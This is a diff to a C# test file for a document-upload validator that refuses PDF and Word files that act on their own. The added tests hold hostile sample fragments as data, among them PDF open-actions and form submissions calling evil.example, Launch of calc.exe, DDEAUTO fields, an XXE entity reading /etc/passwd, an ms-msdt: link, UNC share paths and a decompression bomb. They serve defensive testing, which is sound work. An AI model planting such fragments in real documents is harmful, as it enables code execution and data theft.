@@ -1,3 +1,4 @@
+using System.Text;
 using ReturnCase.Domain.Documents;
 using ReturnCase.Tests.Support;
 using ReturnCase.Web.Documents;
@@ -22,6 +23,9 @@ public sealed class FileContentTests
         { "foto.jpeg", [.. Papers.Jpeg(), 1, 2, 3], DocumentFormat.Jpeg },
         { "verslag.txt", Papers.Text("Zij zei: \u201Cja\u201D.\r\n\tEn toen \u0627\u0644\u0633\u0644\u0627\u0645."), DocumentFormat.Text },
         { "verslag.txt", [0xEF, 0xBB, 0xBF, .. Papers.Text("met merkteken")], DocumentFormat.Text },
+        { "verslag.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Zij zei: \u201Cja\u201D.")], DocumentFormat.Text },
+        { "verslag.txt", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes("Zij zei: \u201Cja\u201D.")], DocumentFormat.Text },
+        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, (byte)'s', 0x80], DocumentFormat.Text },
         { "brief.docx", Papers.Docx(), DocumentFormat.Docx },
         { "brief.docx", Papers.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="file:///C:\Sjablonen\brief.dotx" TargetMode="External"/></Relationships>""")), DocumentFormat.Docx },
     };
@@ -75,9 +79,13 @@ public sealed class FileContentTests
         { "foto.jpg", Papers.Jpeg()[..24], FileFault.Broken },
         { "programma.exe", [(byte)'M', (byte)'Z', 1], FileFault.CarriesProgram },
         { "programma.txt", [(byte)'M', (byte)'Z', 1], FileFault.NotWhatItSays },
-        { "verslag.txt", [(byte)'a', 0, (byte)'b'], FileFault.NotUtf8 },
-        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0], FileFault.NotUtf8 },
-        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, (byte)'s'], FileFault.NotUtf8 },
+        { "verslag.txt", [(byte)'a', 0, (byte)'b'], FileFault.NoText },
+        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, 0, 0], FileFault.NoText },
+        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, 0x81], FileFault.NoText },
+        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, 0x00, 0xD8], FileFault.NoText },
+        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, (byte)'b'], FileFault.NoText },
+        { "pagina.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Html)], FileFault.NotWhatItSays },
+        { "pdf", Papers.Pdf("Hallo"), FileFault.NameMissing },
         { "muziek.mp3", [1, 2, 3], FileFault.EndingNotTaken },
         { "zonder", Papers.Pdf("Hallo"), FileFault.EndingNotTaken },
     };
@@ -96,6 +104,160 @@ public sealed class FileContentTests
     {
         using var stream = new MemoryStream(content);
         Assert.Equal(FileVerdict.Refuses(fault), FileContent.Judge(name, stream));
+    }
+
+    public static TheoryData<string> StaysInside() => new()
+    {
+        "/OpenAction[3 0 R /XYZ null null 0]", "/OpenAction 5 0 R", "/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "/OpenAction<</Type/Action/D(one)/S /GoTo >>", "/AA<<>>",
+        "/Annots[<</Subtype/Link/A<</Type/Action/S/URI/URI(https://www.ind.nl/brief)>>>>]", "/OpenAction 5 0 R/A<</S/URI/URI(https://www.ind.nl)>>", "/A 7 0 R>>endobj 7 0 obj<</S/URI/URI(mailto:voogd@nidos.nl)",
+        "/A<</S/URI/URI(file:///C:/Brieven/a.pdf)>>", "/Filter[/FlateDecode/DCTDecode]", "/A<</S/Named/N/NextPage>>", "/Soundness/Moviegoer/GoToRome",
+    };
+
+    public static TheoryData<string, FileFault> ReachesOut() => new()
+    {
+        { "/OpenAction<</S/URI/URI(https://evil.example/?v)>>", FileFault.ActsByItself },
+        { "/OpenAction <</Type/Action %x\n/S /URI/URI (https://evil.example)>>", FileFault.ActsByItself },
+        { "/Open#41ction<</S/U#52I/URI(https://evil.example)>>", FileFault.ActsByItself },
+        { "/OpenAction 5 0 R>>endobj 5 0 obj<</S/URI/URI(https://evil.example)>>", FileFault.ActsByItself },
+        { "/OpenAction%x\n5%y\n0 R/X<</S/URI/URI(https://evil.example)>>", FileFault.ActsByItself },
+        { "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>", FileFault.ActsByItself },
+        { "/OpenAction<</S/Named/N/Print>>", FileFault.ActsByItself },
+        { "/OpenAction 5 0 R/X<</S/Named/N/Print>>", FileFault.ActsByItself },
+        { "/AA<</O<</S/URI/URI(https://evil.example)>>>>", FileFault.ActsByItself },
+        { "/A#41 12 0 R", FileFault.ActsByItself },
+        { "/AA%x\n<</WC 12 0 R>>", FileFault.ActsByItself },
+        { "/S/SubmitForm/F(https://evil.example)", FileFault.ActsByItself },
+        { "/S/Submit#46orm>>", FileFault.ActsByItself },
+        { "/F(a)/S/ImportData>>", FileFault.ActsByItself },
+        { "/S/GoToR/F(b.pdf)", FileFault.ActsByItself },
+        { "/S /GoToE /T 4 0 R", FileFault.ActsByItself },
+        { "/S/Rendition/OP 0", FileFault.ActsByItself },
+        { "/Subtype/Sound ", FileFault.ActsByItself },
+        { "/Subtype/Movie ", FileFault.ActsByItself },
+        { "/Subtype/RichMedia ", FileFault.CarriesProgram },
+        { "/F(calc.exe)/S/Launch>>", FileFault.CarriesProgram },
+        { "/Type/Filespec/F(x)", FileFault.CarriesProgram },
+        { "/FS/URL/F(https://evil.example)", FileFault.ActsByItself },
+        { """/F(\\\\evil\\share\\a.pdf)""", FileFault.ActsByItself },
+        { "/A<</S/URI/URI(file://evil/share)>>", FileFault.ActsByItself },
+        { "/A<</S/URI/URI(javascript:alert)>>", FileFault.ActsByItself },
+        { """/UF (\134\134evil)""", FileFault.ActsByItself },
+        { "/F<5C5C6576696C>", FileFault.ActsByItself },
+        { "/Filter[/FlateDecode /FlateDecode]", FileFault.Unreadable },
+        { "/Filter[/Fl/ASCIIHexDecode/LZWDecode]", FileFault.Unreadable },
+    };
+
+    [Theory]
+    [MemberData(nameof(StaysInside))]
+    public void A_PDF_that_opens_at_a_page_or_has_links_to_press_is_taken(string words)
+    {
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfWith(words)));
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}>>")));
+    }
+
+    [Theory]
+    [MemberData(nameof(ReachesOut))]
+    public void A_PDF_that_reaches_out_is_refused_also_where_it_says_so_in_packed_objects_or_across_a_window(string words, FileFault fault)
+    {
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfWith(words)));
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}>>")));
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{new string(' ', (64 * 1024) - 30)}{words}>>")));
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfWith(new string(' ', (256 * 1024) - 60) + words)));
+        // Just as long as a window, the last words are read too.
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}".PadLeft((64 * 1024) - "1 0 ".Length))));
+    }
+
+    [Fact]
+    public void What_is_packed_and_then_spoilt_is_read_up_to_there()
+    {
+        var paper = Papers.PdfOfPackedObjects("<</S/SubmitForm/F(x)>>" + new string(' ', 2_000));
+        var end = paper.AsSpan().LastIndexOf("\r\nendstream"u8);
+        paper.AsSpan(end - 12, 8).Fill(0xFF);
+        Assert.Equal(FileFault.ActsByItself, Judged("a.pdf", paper).Fault);
+    }
+
+    [Fact]
+    public void Behind_the_end_of_a_PDF_stands_nothing()
+    {
+        var pdf = Papers.Pdf("Hallo");
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", [.. pdf, .. Papers.Text("\r\n\0\n ")]));
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", [.. pdf, .. Papers.Text("\n12 0 obj<</Type/Page>>endobj\nstartxref\n0\n%%EOF\n")]));
+        foreach (var behind in (byte[][])[Papers.Text(Html), Papers.Text($"\n{Html}\nstartxref\n0\n%%EOF"), Papers.Text("12 0 obj"), Papers.Docx(), [.. Papers.Docx(), .. Papers.Text("startxref 0 %%EOF")]])
+            Assert.Equal(FileFault.MoreBehind, Judged("a.pdf", [.. pdf, .. behind]).Fault);
+    }
+
+    [Fact]
+    public void A_page_that_unpacks_to_far_more_than_itself_is_refused_and_a_large_scan_is_not()
+    {
+        var bomb = Papers.PdfBomb(300);
+        Assert.True(bomb.Length < 400 * 1024);
+        Assert.Equal(FileFault.Bomb, Judged("a.pdf", bomb).Fault);
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfBomb(26)));
+        var scattered = Papers.PdfBomb(30);
+        Assert.Equal(FileFault.Bomb, Judged("a.pdf", [.. scattered, .. scattered[9..], .. scattered[9..], .. scattered[9..], .. scattered[9..]]).Fault);
+    }
+
+    private const string Word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
+
+    public static TheoryData<string, string, FileFault> Inside() => new()
+    {
+        { "word/other.bin", "", FileFault.CarriesProgram },
+        { "word/a.xml", $"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><w:ftr {Word}>&b;</w:ftr>", FileFault.CarriesProgram },
+        { "word/a.dat", "\n<html><body>x</body></html>", FileFault.CarriesProgram },
+        { "word/a.dat", "<p>half", FileFault.CarriesProgram },
+        { "word/a.xml", "<p>half", FileFault.Broken },
+        { "word/chunk.mht", "MIME-Version: 1.0", FileFault.CarriesProgram },
+        { "word/header1.xml", $"<w:hdr {Word}><w:altChunk/></w:hdr>", FileFault.CarriesProgram },
+        { "word/header1.xml", Field("DDEAUTO c:\\\\windows\\\\calc.exe"), FileFault.ActsByItself },
+        { "word/header1.xml", Field("D", "DE excel x"), FileFault.ActsByItself },
+        { "word/header1.xml", Field(" inc", "lude", "Text \"https://evil.example/a\""), FileFault.ActsByItself },
+        { "word/header1.xml", Field("INCLUDEPICTURE \"https://evil.example/a.png\" \\d"), FileFault.ActsByItself },
+        { "word/header1.xml", $"<w:hdr {Word}><w:fldSimple w:instr=\" &#68;DEAUTO x\"/></w:hdr>", FileFault.ActsByItself },
+        { "word/header1.xml", Field("QUOTE 68 68 69 65"), FileFault.ActsByItself },
+        { "word/header1.xml", $"<w:hdr {Word}>{Turn("begin")}{Turn("begin")}{Instruction("IF 1=1 x")}{Turn("separate")}<w:r><w:t>DDE</w:t></w:r>{Turn("end")}{Instruction("AUTO x")}{Turn("end")}</w:hdr>", FileFault.ActsByItself },
+        { "word/header1.xml", Field("HYPERLINK \"\\\\\\\\evil\\\\share\""), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("image", "https://evil.example/a.png"), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("image", "//evil.example/a.png", null), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("mailMergeSource", "file:///C:/a.mdb"), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("hyperlink", "file://evil/share"), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("hyperlink", "%5C%5Cevil%5Cshare"), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("hyperlink", "ms-msdt:/id"), FileFault.ActsByItself },
+        { "word/_rels/a.rels", Relation("attachedTemplate", "&#104;ttps://evil.example/a.dotm"), FileFault.CarriesProgram },
+        { "word/_rels/a.rels", Relation("aFChunk", "part.dat", null), FileFault.CarriesProgram },
+        { "word/_rels/a.rels", Relation("vbaProject", "other.bin", null), FileFault.CarriesProgram },
+    };
+
+    [Theory]
+    [MemberData(nameof(Inside))]
+    public void A_Word_document_is_judged_by_what_its_parts_are_and_say(string part, string words, FileFault fault) =>
+        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.docx", words.Length == 0
+            ? Papers.Zip(("[Content_Types].xml", Papers.Text("""<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.&#118;baProject"/></Types>""")), ("word/document.xml", Papers.Text("<a/>")), (part, [1]))
+            : Papers.Docx((part, words))));
+
+    [Theory]
+    [InlineData("word/header1.xml", "PAGE \\* MERGEFORMAT")]
+    [InlineData("word/header1.xml", "HYPERLINK \"https://example.org/link/hidden/import\" \\o \"rd\"")]
+    [InlineData("word/header1.xml", "DATE \\@ \"dd-MM-yyyy\"")]
+    [InlineData("word/_rels/document.xml.rels", null)]
+    [InlineData("word/glossary/document.xml", "PAGE")]
+    public void An_honest_Word_document_is_taken(string part, string? field) =>
+        Assert.Equal(FileVerdict.Takes(DocumentFormat.Docx), Judged("a.docx", Papers.Zip(
+            ("[Content_Types].xml", Papers.Text("""<Types><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/glossary/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/></Types>""")),
+            ("word/document.xml", Papers.Text("<a/>")), (part, Papers.Text(field is null ? Relation("hyperlink", "https://www.ind.nl/a") : Field(field))))));
+
+    private static string Field(params string[] runs) => $"<w:hdr {Word}>{Turn("begin")}{string.Concat(runs.Select(Instruction))}{Turn("separate")}<w:r><w:t>zie DDE</w:t></w:r>{Turn("end")}</w:hdr>";
+
+    private static string Turn(string type) => $"<w:r><w:fldChar w:fldCharType=\"{type}\"/></w:r>";
+
+    private static string Instruction(string words) => $"<w:r><w:instrText>{words}</w:instrText></w:r>";
+
+    private static string Relation(string type, string target, string? mode = "External") =>
+        $"<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\"{(mode is null ? "" : $" TargetMode=\"{mode}\"")}/></Relationships>";
+
+    private static FileVerdict Judged(string name, byte[] content)
+    {
+        using var stream = new MemoryStream(content);
+        return FileContent.Judge(name, stream);
     }
 
     [Fact]
